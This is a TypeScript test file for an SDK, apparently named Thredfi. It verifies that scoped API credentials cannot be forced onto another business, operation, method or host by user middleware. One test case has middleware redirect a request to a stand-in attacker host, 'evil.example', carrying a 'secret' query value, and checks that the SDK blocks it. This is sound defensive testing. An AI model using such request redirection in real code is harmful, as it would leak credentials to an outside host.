// A token goes nowhere but to the operation it was obtained for.

import { describe, expect, it } from "vitest";
import { type Middleware, ThredfiError, ThredfiScopeError } from "../../src/index.js";
import { BUSINESS_A, BUSINESS_B, bearerOf } from "../support/api.js";
import { api, BUSINESSES, CUSTOMERS, client, rejection, useApi } from "../support/client.js";

useApi();

it("throws when another business's id is forced on a locked client", async () => {
  const forced = { params: { path: { business_id: BUSINESS_B } } } as object;
  const call = client().business(BUSINESS_A).GET(CUSTOMERS, forced);
  await expect(call).rejects.toMatchObject({
    name: "ThredfiScopeError",
    code: "out_of_scope",
    operationId: "list_customers",
  });
  expect(api.requests).toEqual([]);
});

it("accepts the locked business's own id", async () => {
  const forced = { params: { path: { business_id: BUSINESS_A.toUpperCase() } } } as object;
  expect((await client().business(BUSINESS_A).GET(CUSTOMERS, forced)).response.status).toBe(200);
});

it("throws when an operation of another scope is forced on a locked client", async () => {
  const acme = client().business(BUSINESS_A) as unknown as { GET(path: string): Promise<unknown> };
  await expect(acme.GET(BUSINESSES)).rejects.toThrow(ThredfiScopeError);
  expect(api.requests).toEqual([]);
});

it("lets middleware change the query, the headers and the body", async () => {
  const thredfi = client();
  thredfi.use({
    onRequest({ request }) {
      const changed = new Request(`${request.url}?page=2#part`, request);
      changed.headers.set("x-team", "payments");
      return changed;
    },
  });
  await thredfi.business(BUSINESS_A).GET(CUSTOMERS);
  const [call] = api.calls();
  expect(call?.path).toBe(`/v1/platform/businesses/${BUSINESS_A}/customers/?page=2`);
  expect(call?.headers["x-team"]).toBe("payments");
  expect(bearerOf(call)).toContain(BUSINESS_A);
});

describe("a call that middleware changed", () => {
  it.each<[what: string, change: (request: Request) => Request, expected: string]>([
    [
      "to have an Authorization header of its own",
      (request) => new Request(request, { headers: { Authorization: "Bearer mine" } }),
      "headers.Authorization: is set by the SDK; the option credential chooses which.",
    ],
    [
      "to follow redirects",
      (request) => new Request(request, { redirect: "follow" }),
      "Middleware made list_customers follow redirects, but its credential",
    ],
    [
      "to another host, and the query is not shown",
      () => new Request("https://evil.example/x?secret=1#part", { redirect: "manual" }),
      "Middleware sent list_customers to GET https://evil.example/x, but its credential goes nowhere but GET http",
    ],
    ...[
      ["another business", BUSINESS_A, BUSINESS_B],
      ["another operation", "/customers/", "/invoices/"],
      ["another host on this machine", "127.0.0.1", "localhost"],
    ].map(([what, from = "", to = ""]): [string, (request: Request) => Request, string] => [
      `to ${what}`,
      (request) => new Request(request.url.replace(from, to), request),
      "Middleware sent list_customers to GET ",
    ]),
    [
      "to another method",
      (request) => new Request(request, { method: "DELETE" }),
      "Middleware sent list_customers to DELETE ",
    ],
  ])("%s: nothing is sent, and the error says why", async (_, change, expected) => {
    const thredfi = client();
    thredfi.use({ onRequest: ({ request }) => change(request) });
    const error = await rejection(thredfi.business(BUSINESS_A).GET(CUSTOMERS));
    expect(error).toBeInstanceOf(ThredfiError);
    expect((error as Error).message).toContain(expected);
    expect(api.requests).toEqual([]);
  });
});

it("runs the user's middleware before the credential is added, in the order it was given", async () => {
  const seen: string[] = [];
  const spy = (name: string): Middleware => ({
    onRequest: ({ request }) => void seen.push(`${name} ${request.headers.has("authorization")}`),
    onResponse: ({ response }) => void seen.push(`${name} ${response.status}`),
  });
  const thredfi = client();
  const acme = thredfi.business(BUSINESS_A);
  const everywhere = spy("client");
  thredfi.use(everywhere);
  acme.use(spy("business"));
  await acme.GET(CUSTOMERS, { middleware: [spy("call")] });
  expect(seen).toEqual(["client false", "business false", "call false", "call 200", "business 200", "client 200"]);

  seen.length = 0;
  thredfi.eject(everywhere);
  await thredfi.business(BUSINESS_B).GET(CUSTOMERS);
  expect(seen).toEqual([]);
});
